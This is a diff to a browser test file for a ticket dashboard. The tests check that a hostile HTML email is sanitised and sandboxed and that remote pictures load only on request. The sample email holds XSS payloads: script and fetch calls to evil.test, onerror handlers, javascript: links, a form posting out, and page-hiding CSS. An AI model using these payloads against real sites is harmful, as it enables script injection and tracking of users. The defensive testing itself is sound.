@@ -1,7 +1,7 @@
 """The dashboard in a real browser: hostile messages, two users of one ticket, roles, shortcuts, and no JavaScript."""
 
 import pytest
-from playwright.async_api import Browser, Page, expect
+from playwright.async_api import Browser, Page, Route, expect
 
 from router.enumerations import Role
 from tests.support import mails
@@ -13,7 +13,8 @@ pytestmark = pytest.mark.asyncio(loop_scope="session")
 
 HOSTILE = """
 <script>parent.hacked = 1; fetch("https://evil.test/script")</script>
-<style>@import url(https://evil.test/style.css); body { background: url(https://evil.test/back.png) }</style>
+<style>@import url(https://evil.test/style.css); body { background: url(https://evil.test/back.png); color: #123456 }
+header, #main { display: none !important } p { position: fixed; top: -999px; height: 100vh }</style>
 <img src="https://evil.test/pixel.gif" onerror="parent.hacked = 2"><img src=x onerror=alert(1)>
 <a href="javascript:parent.hacked=3" id=j>Click</a> <a href="https://customer.test/">A link</a>
 <form action="https://evil.test/form"><input name=q><button>Send</button></form>
@@ -44,10 +45,12 @@ async def test_hostile_message_has_no_effect(site: ServedInstallation, window: W
     page = await sign_in(site, window, "viewer")
     await page.get_by_role("link", name="onerror").click()
     await expect(page.get_by_role("heading", level=1)).to_contain_text("{{ 7 * 7 }}")
-    await page.get_by_text("Show HTML").click()
+    await page.get_by_role("link", name="Show HTML").click()
     frame = page.frame_locator("iframe")
     await expect(frame.get_by_text("after all")).to_be_visible()
-    assert await frame.locator("script, form, iframe, object, svg, style ~ style, [onerror]").count() == 0
+    await expect(frame.locator("body")).to_have_css("color", "rgb(18, 52, 86)")
+    await expect(page.locator("#main")).to_be_visible()
+    assert await frame.locator("script, form, iframe, object, svg, [onerror]").count() == 0
     assert await frame.locator("a[href^='javascript']").count() == 0
     assert await frame.get_by_role("link", name="A link").get_attribute("rel") == "noopener noreferrer nofollow"
     await page.get_by_role("link", name="Show quoted text (2 lines)").click()
@@ -55,11 +58,48 @@ async def test_hostile_message_has_no_effect(site: ServedInstallation, window: W
     await expect(page.get_by_text("Quoted text (2 lines)", exact=True)).to_be_focused()
     assert await find_axe_violations(page) == []
     assert await page.evaluate("window.hacked") is None
+    # The frame fits its content. Its document belongs to the dashboard's origin, but runs no script.
+    script = (
+        "frame.contentDocument.head.append(Object.assign(document.createElement('script'), {text: 'top.hacked = 5'}))"
+    )
+    window.expect_error("the document's frame is sandboxed")
+    heights = await page.evaluate(
+        f"() => {{ const frame = document.querySelector('iframe'); {script};"
+        " return [frame.clientHeight, Math.ceil(frame.contentDocument.body.getBoundingClientRect().height)] }"
+    )
+    assert heights[0] == heights[1] > 0
+    assert await page.evaluate("window.hacked") is None
     # The HTML of a message also has an opaque origin when it is opened directly.
     view = await site.services.tickets.get(site.actor, ticket)
     await page.goto(f"{site.root}/tickets/{ticket}/messages/{view.messages[0].message.id}/html")
     await expect(page.get_by_text("after all")).to_be_visible()
     assert await page.evaluate("window.origin") == "null"
+
+
+async def test_pictures_of_other_servers(site: ServedInstallation, window: Window) -> None:
+    """Pictures are requested only after "Show pictures", without referrer and cookies. The frame grows with them."""
+    await site.create_alias()
+    picture = '<img src="https://pictures.test/a.svg" alt="Mill" width="500" height="400">'
+    ticket = await site.accept_ticket(mails.html(markup=f"{picture}<p>Which colour?</p>"))
+    requests: list[dict[str, str]] = []
+
+    async def answer(route: Route) -> None:
+        requests.append(await route.request.all_headers())
+        svg = '<svg xmlns="http://www.w3.org/2000/svg" width="500" height="400"/>'
+        await route.fulfill(content_type="image/svg+xml", body=svg)
+
+    await window.context.route("https://pictures.test/**", answer)
+    page = await sign_in(site, window, "viewer")
+    await page.goto(f"{site.root}/tickets/{ticket}")
+    frame = page.locator("iframe")
+    await expect(frame.content_frame.get_by_text("Mill")).to_be_visible()
+    assert (requests, (await frame.bounding_box() or {})["height"] < 200) == ([], True)
+    window.hosts.add("pictures.test")
+    await page.get_by_role("link", name="Show pictures").click()
+    await expect(frame.content_frame.get_by_text("Which colour?")).to_be_in_viewport()
+    await expect(frame).to_have_class("message-frame is-fitted")
+    await page.wait_for_function("document.querySelector('iframe').clientHeight > 400")
+    assert [{"cookie", "referer"} & headers.keys() for headers in requests] == [set()]
 
 
 async def test_two_users_at_one_ticket(site: ServedInstallation, window: Window, chromium_browser: Browser) -> None:
